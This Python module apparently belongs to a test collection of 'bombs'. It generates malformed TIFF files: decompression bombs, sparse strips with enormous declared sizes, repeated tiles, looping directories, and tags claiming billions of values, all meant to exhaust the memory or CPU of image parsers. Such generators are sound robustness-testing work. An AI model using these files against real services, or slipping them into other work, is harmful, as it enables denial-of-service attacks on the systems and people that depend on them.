"""TIFF files whose tags promise more than there is."""

from __future__ import annotations

import io
import struct

import numpy as np
from PIL.TiffImagePlugin import ImageFileDirectory_v2

from bombs.png import zeros_deflated
from bombs.registry import SIDE, bomb


def tiff(*directories: dict[int, tuple[str, tuple[int, ...]]], data: bytes = b"", loop: bool = False) -> bytes:
    """Write directories of tags: number -> (type, values), types as in `struct`; data begin at byte 8."""
    content = bytearray(b"II*\0\0\0\0\0" + data + bytes(len(data) % 2))
    link = 4
    first = 0
    for tags in directories:
        outside, entries = bytearray(), bytearray()
        start = len(content) + 2 + 12 * len(tags) + 4
        for number, (kind, values) in sorted(tags.items()):
            packed = struct.pack(f"<{len(values)}{kind}", *values)
            code = {"B": 1, "H": 3, "I": 4, "d": 12}[kind]
            if len(packed) > 4:
                place = start + len(outside)
                outside += packed + bytes(len(packed) % 2)
                packed = struct.pack("<I", place)
            entries += struct.pack("<HHI", number, code, len(values)) + packed.ljust(4, b"\0")
        first = first or len(content)
        struct.pack_into("<I", content, link, len(content))
        link = len(content) + 2 + len(entries)
        content += struct.pack("<H", len(tags)) + entries + bytes(4) + outside
    if loop:
        struct.pack_into("<I", content, link, first)
    return bytes(content)


def tiled(compression: str, side: int = SIDE, tile: int = 512, bands: int = 3, dtype: str = "uint8") -> bytes:
    """All tiles are the same few bytes of the file."""
    from rasterio.io import MemoryFile

    kind = {"driver": "GTiff", "width": tile, "height": tile, "count": bands, "dtype": dtype, "interleave": "pixel"}
    with MemoryFile() as memory:
        with memory.open(**kind, tiled=True, blockxsize=tile, blockysize=tile, compress=compression) as file:
            file.write(np.full((bands, tile, tile), 1, dtype))
        content = bytes(memory.getbuffer())
    tags = ImageFileDirectory_v2(content[:8])
    file = io.BytesIO(content)
    file.seek(tags.next)
    tags.load(file)
    start, size = tags[324][0], tags[325][0]
    count = (side // tile) ** 2
    kept: dict[int, tuple[str, tuple[int, ...]]] = {
        256: ("I", (side,)),
        257: ("I", (side,)),
        258: ("H", tuple(tags[258])),
        259: ("H", (tags[259],)),
        262: ("H", (tags[262],)),
        277: ("H", (bands,)),
        284: ("H", (1,)),
        322: ("H", (tile,)),
        323: ("H", (tile,)),
        324: ("I", (8,) * count),
        325: ("I", (size,) * count),
        339: ("H", tuple(tags[339])),
    }
    for number in (317, 347, 530, 50674):
        if number in tags:
            values = tags[number] if isinstance(tags[number], (tuple, bytes)) else (tags[number],)
            kept[number] = ("B" if isinstance(values, bytes) else "I" if number == 50674 else "H", tuple(values))
    return tiff(kept, data=content[start : start + size])


PLAIN = {258: ("H", (8,)), 259: ("H", (1,)), 262: ("H", (1,)), 277: ("H", (1,))}


def strips(width: int, height: int, count: int, **more: int) -> dict[int, tuple[str, tuple[int, ...]]]:
    size = {256: ("I", (width,)), 257: ("I", (height,)), 278: ("I", (more.get("rows", height),))}
    return {**PLAIN, **size, 273: ("I", (8,) * count), 279: ("I", (more.get("bytes", 0),) * count)}


@bomb
def tiff_sparse() -> bytes:
    return tiff({**strips(2**18, 2**18, 1), 273: ("I", (0,)), 279: ("I", (0,))})


@bomb
def tiff_sparse_of_the_largest_size() -> bytes:
    return tiff({**strips(SIDE, SIDE, 1), 273: ("I", (0,)), 258: ("H", (64,)), 339: ("H", (3,))})


@bomb
def tiff_sparse_rgba() -> bytes:
    return tiff({**strips(9000, 9000, 1), 258: ("H", (8,) * 4), 262: ("H", (2,)), 277: ("H", (4,)), 338: ("H", (2,))})


@bomb
def tiff_one_deflated_strip() -> bytes:
    data = zeros_deflated(SIDE * SIDE)
    return tiff({**strips(SIDE, SIDE, 1, bytes=len(data)), 259: ("H", (8,))}, data=data)


@bomb
def tiff_deflate() -> bytes:
    return tiled("deflate")


@bomb
def tiff_lzw() -> bytes:
    return tiled("lzw")


@bomb
def tiff_packbits() -> bytes:
    return tiled("packbits")


@bomb
def tiff_zstd() -> bytes:
    return tiled("zstd")


@bomb
def tiff_lzma() -> bytes:
    return tiled("lzma")


@bomb
def tiff_lerc() -> bytes:
    return tiled("lerc", bands=1, dtype="float32")


@bomb
def tiff_jpeg() -> bytes:
    return tiled("jpeg", bands=3)


@bomb
def tiff_of_float64() -> bytes:
    return tiled("deflate", dtype="float64")


@bomb
def tiff_below_the_limit() -> bytes:
    return tiled("deflate", 8192, bands=4, dtype="float64")


@bomb
def tiff_a_strip_each_row() -> bytes:
    return tiff(strips(1, 250_000, 250_000, rows=1, bytes=1))


@bomb
def tiff_four_billion_strips() -> bytes:
    return tiff({**strips(64, 2**32 - 1, 1, rows=1)})


@bomb
def tiff_directories_in_a_ring() -> bytes:
    return tiff(strips(64, 64, 1, bytes=4096), strips(64, 64, 1, bytes=4096), data=bytes(4096), loop=True)


@bomb
def tiff_of_thirty_thousand_pages() -> bytes:
    return tiff(*[strips(64, 64, 1, bytes=4096)] * 30_000, data=bytes(4096))


@bomb
def tiff_of_many_bands() -> bytes:
    many = 65535
    tags = {258: ("H", (8,) * many), 277: ("H", (many,)), 284: ("H", (1,)), 338: ("H", (0,) * (many - 1))}
    return tiff({**strips(4096, 4096, 1), **tags})


@bomb
def tiff_tile_larger_than_the_image() -> bytes:
    tags = {322: ("I", (2**31 - 16,)), 323: ("I", (2**31 - 16,)), 324: ("I", (8,)), 325: ("I", (64,)), 259: ("H", (8,))}
    size = {256: ("I", (64,)), 257: ("I", (64,))}
    return tiff({**PLAIN, **size, **tags}, data=zeros_deflated(2**20))


@bomb
def tiff_tag_of_four_billion_values() -> bytes:
    content = bytearray(tiff({**strips(64, 64, 1, bytes=4096), 700: ("B", (0,) * 8)}, data=bytes(4096)))
    at = content.index(struct.pack("<HHI", 700, 1, 8))
    struct.pack_into("<HHI", content, at, 700, 1, 2**32 - 1)
    return bytes(content)


@bomb
def tiff_of_64_bits() -> bytes:
    entry = [(256, 16, 2**40), (257, 16, 2**40), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 16, 8), (279, 16, 2**62)]
    body = b"".join(struct.pack("<HHQQ", number, kind, 1, value) for number, kind, value in entry)
    return b"II+\0\x08\0\0\0" + struct.pack("<QQ", 16, len(entry)) + body + bytes(8)


@bomb
def tiff_sparse_that_is_read() -> bytes:
    return tiff({**strips(4096, 4096, 1), 273: ("I", (0,)), 258: ("H", (32,)), 339: ("H", (3,))})


@bomb
def tiff_deflate_that_is_read() -> bytes:
    return tiled("deflate", 8192)


@bomb
def tiff_of_float64_that_is_read() -> bytes:
    return tiled("deflate", 1536, dtype="float64")


@bomb
def tiff_lzma_that_is_read() -> bytes:
    return tiled("lzma", 4608)
